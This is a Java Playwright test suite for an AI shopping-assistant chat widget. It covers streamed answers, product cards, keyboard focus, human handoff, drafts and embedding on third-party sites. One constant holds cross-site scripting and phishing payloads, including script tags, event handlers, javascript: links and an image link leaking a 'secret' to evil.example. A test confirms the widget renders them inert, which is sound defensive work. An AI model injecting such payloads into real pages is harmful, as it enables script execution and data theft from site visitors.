package dev.daogou.browser;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.options.AriaRole;
import com.sun.net.httpserver.HttpServer;

import dev.daogou.browser.Chromium.Screen;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;

/** The widget in a real browser, on pages of ours and of others, with the service played by the test. */
@QuarkusTest
class WidgetTest extends InChromium {

    /** Everything a poisoned product text could try; each would show itself by a request, a global or an element. */
    private static final String HOSTILE = """
            **bold** <script>window.pwned=1</script><img src=x onerror="window.pwned=1"><svg onload="window.pwned=1">
            ![leak](https://evil.example/?secret) [click](javascript:window.pwned=1) [data](data:text/html,<script>1</script>)
            [away](https://evil.example/phish) [ours](/p/1) <a href="/p/2" onclick="window.pwned=1" style="position:fixed">x</a>
            <iframe src="https://evil.example"></iframe> <style>*{display:none}</style> <form action="https://evil.example"><input></form>
            """;

    @TestHTTPResource("/")
    URI home;

    Page page;
    ScriptedService service;
    Locator widget;
    final List<String> complaints = new ArrayList<>();

    @BeforeEach
    void openAProductPage() {
        page = chromium.visitor(Screen.DESKTOP_LIGHT);
        page.onConsoleMessage(message -> {
            if (message.text().contains("Content Security Policy")) {
                complaints.add(message.text());
            }
        });
        page.onPageError(complaints::add);
        service = ScriptedService.before(page);
        page.navigate(home.resolve("/p/aurora").toString());
        widget = page.locator("daogou-widget");
        widget.locator(".launcher").click();
    }

    @AfterEach
    void nobodyComplained() {
        page.context().close();
        assertThat(complaints).isEmpty();
    }

    @Test
    void itSaysThatAnAiAnswersAndOffersThreeQuestions() {
        assertThat(widget.locator("header")).containsText("AI");
        assertThat(widget.locator(".chips button")).hasCount(3);
        assertThat(widget.getByRole(AriaRole.DIALOG)).isVisible();
        assertThat(widget.locator(".panel").boundingBox().width).as("the styles are there").isEqualTo(400);
    }

    @Test
    void anAnswerStreamsInAndEndsWithSourceCardAndNextQuestion() {
        service.whenAsked(message -> service.answers("t1", "现价 **¥1,099**。[1]",
                Map.of("citations", List.of(Map.of("n", 1, "ref", "r", "kind", "spec", "title", "价格与库存", "quote", "¥1,099")),
                        "products",
                        List.of(Map.of("id", "aurora", "title", "极光派克", "price", Map.of("amount", "1299.00", "currency", "CNY"),
                                "salePrice", Map.of("amount", "1099.00", "currency", "CNY"), "availability", "in_stock",
                                "imageLink", "/demo/images/a.svg", "link", "/p/aurora", "reason", "正在看的这款")),
                        "suggestions", List.of(Map.of("text", "有货吗？")))));
        ask("多少钱");
        assertThat(answer()).containsText("现价 ¥1,099。");
        assertThat(widget.locator(".card b")).hasText("¥1099");
        assertThat(widget.locator(".card s")).containsText("¥1299");
        widget.locator(".cite-number").click();
        assertThat(widget.locator(".cite-source")).isVisible();
        widget.locator(".chips button").click();
        assertThat(widget.locator("daogou-message[data-author=visitor]")).hasText(
                new Pattern[]{ Pattern.compile("多少钱"), Pattern.compile("有货吗？") });
        assertThat(service.heard.get(0).path("page").path("productId").asText()).isEqualTo("aurora");
    }

    @Test
    void hostileTextIsInert() {
        List<String> requests = new ArrayList<>();
        page.onRequest(request -> requests.add(request.url()));
        service.whenAsked(message -> service.answers("t1", HOSTILE, Map.of()));
        ask("hostile <img src=x onerror=window.pwned=1>");
        assertThat(widget.locator(".chips")).hasCount(0);
        assertThat(answer().locator("strong")).hasText("bold");
        assertThat(answer().locator("script, img, svg, iframe, style, form, input, [onerror], [onclick], [onload], [style]"))
                .hasCount(0);
        assertThat(answer().locator("a")).hasCount(1);
        assertThat(answer().locator("a")).hasAttribute("href", home.resolve("/p/1").toString());
        assertThat(page.evaluate("window.pwned")).isNull();
        assertThat(requests).noneMatch(url -> url.contains("evil.example"));
    }

    @Test
    void stopEndsTheAnswerWhereItWasSeen() {
        service.whenAsked(message -> service.streams("t1", "面料是聚酰胺,"));
        ask("讲讲面料");
        assertThat(answer()).containsText("聚酰胺");
        widget.locator(".stop").click();
        assertThat(widget.locator(".stop")).isDisabled();
        var stop = service.frames("stop").get(0);
        assertThat(stop.path("tid").asText()).isEqualTo("t1");
        assertThat(stop.path("seen").asInt()).isEqualTo(7);
        service.sayDurably(Map.of("t", "turn.cut", "tid", "t1", "off", 3, "text", "面料是", "why", "stop"));
        assertThat(widget.locator(".cut")).isVisible();
        assertThat(answer().locator(".bubble")).hasText("面料是");
    }

    @Test
    void theEnterOfAnInputMethodDoesNotSend() {
        Locator box = widget.locator("textarea");
        box.fill("chongrong");
        box.dispatchEvent("keydown", Map.of("key", "Enter", "isComposing", true, "keyCode", 229));
        box.press("Shift+Enter");
        assertThat(service.frames("msg")).isEmpty();
        assertThat(box).hasValue("chongrong\n");
        box.press("Enter");
        assertThat(box).hasValue("");
        page.waitForCondition(() -> service.frames("msg").size() == 1);
    }

    @Test
    void theKeyboardStaysInsideAndEscapeLeadsOut() {
        assertThat(widget.locator("textarea")).isFocused();
        for (int i = 0; i < 14; i++) {
            page.keyboard().press("Tab");
            assertThat(page.evaluate("document.activeElement.tagName")).isEqualTo("DAOGOU-WIDGET");
        }
        page.keyboard().press("Escape");
        assertThat(widget.locator(".panel")).hasCount(0);
        assertThat(widget.locator(".launcher")).isFocused();
    }

    @Test
    void whatIsAskedTakesTheFocusAndGivesItBack() {
        service.whenAsked(message -> service.answers("t1", "好。", Map.of()));
        ask("有货吗");
        assertThat(answer()).containsText("好。");
        Locator menu = widget.locator("#menu-button");
        menu.click();
        page.keyboard().press("Escape");
        assertThat(menu).isFocused();
        menu.click();
        widget.locator("[role=menuitem]").last().click();
        assertThat(widget.locator("#keep")).isFocused();
        page.keyboard().press("Escape");
        assertThat(widget.locator(".ask")).hasCount(0);
        assertThat(menu).isFocused();
        menu.click();
        widget.locator("[role=menuitem]").nth(1).click();
        assertThat(widget.locator("daogou-rating input").first()).isFocused();
    }

    @Test
    void aPersonIsAnnouncedAndNamed() {
        service.whenAsked(message -> service.sayDurably(
                Map.of("t", "floor", "floor", "queue", "queue", Map.of("position", 2, "etaSeconds", 90))));
        widget.locator("#menu-button").click();
        widget.locator("[role=menuitem]").first().click();
        assertThat(widget.locator(".status")).containsText("1 位");
        service.sayDurably(Map.of("t", "floor", "floor", "agent", "by", "梅"));
        assertThat(widget.locator(".note").last()).containsText("梅 已加入对话");
        service.sayDurably(Map.of("t", "message", "mid", "a1", "author", "agent", "by", "梅", "text", "我来帮你看。"));
        assertThat(widget.locator("daogou-message[data-author=agent]")).containsText("梅");
        assertThat(widget.locator("[aria-live]")).hasText("我来帮你看。");
        service.sayDurably(Map.of("t", "floor", "floor", "assistant", "by", "梅"));
        assertThat(widget.locator("daogou-rating")).isVisible();
    }

    @Test
    void anUnsentDraftOutlivesAReloadAndDeletingAsksFirst() {
        service.whenAsked(message -> service.answers("t1", "好。", Map.of()));
        ask("有货吗");
        assertThat(answer()).containsText("好。");
        widget.locator("textarea").fill("还没写完");
        page.reload();
        assertThat(widget.locator("textarea")).hasValue("还没写完");
        service.whenAsked(message -> {});
        ask("再问一句");
        widget.locator("#menu-button").click();
        widget.locator("[role=menuitem]").last().click();
        widget.locator(".ask .danger").click();
        assertThat(widget.locator("daogou-message[data-author=visitor]")).hasCount(0);
        assertThat(page.evaluate("Object.keys(localStorage).filter(k => k.endsWith(':conversation')).length")).isEqualTo(0);
    }

    @Test
    void anotherSitesPageNeedsOneTagOnly() throws IOException {
        var server = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        byte[] html = ("<!doctype html><style>button{color:red!important}</style><body><p>Shop</p><script src='"
                + home.resolve("/widget.js") + "' data-lang=en data-product-id=p9 async></script>")
                .getBytes(StandardCharsets.UTF_8);
        server.createContext("/", exchange -> {
            exchange.getResponseHeaders().set("Content-Type", "text/html");
            exchange.sendResponseHeaders(200, html.length);
            exchange.getResponseBody().write(html);
            exchange.close();
        });
        server.start();
        page.navigate("http://127.0.0.1:" + server.getAddress().getPort());
        page.evaluate("new Promise(done => { const wait = () => window.Daogou ? done() : setTimeout(wait, 20); wait(); })");
        page.evaluate("Daogou.open()");
        assertThat(widget.locator("header")).containsText("An AI answers");
        service.whenAsked(message -> service.answers("t1", "Yes.", Map.of()));
        ask("In stock?");
        assertThat(answer()).containsText("Yes.");
        assertThat(service.heard.get(0).path("page").path("productId").asText()).isEqualTo("p9");
        page.evaluate("Daogou.close()");
        assertThat(widget.locator(".panel")).hasCount(0);
        server.stop(0);
    }

    private void ask(String question) {
        widget.locator("textarea").fill(question);
        widget.locator("textarea").press("Enter");
    }

    private Locator answer() {
        return widget.locator("daogou-message[data-author=assistant]").last();
    }
}
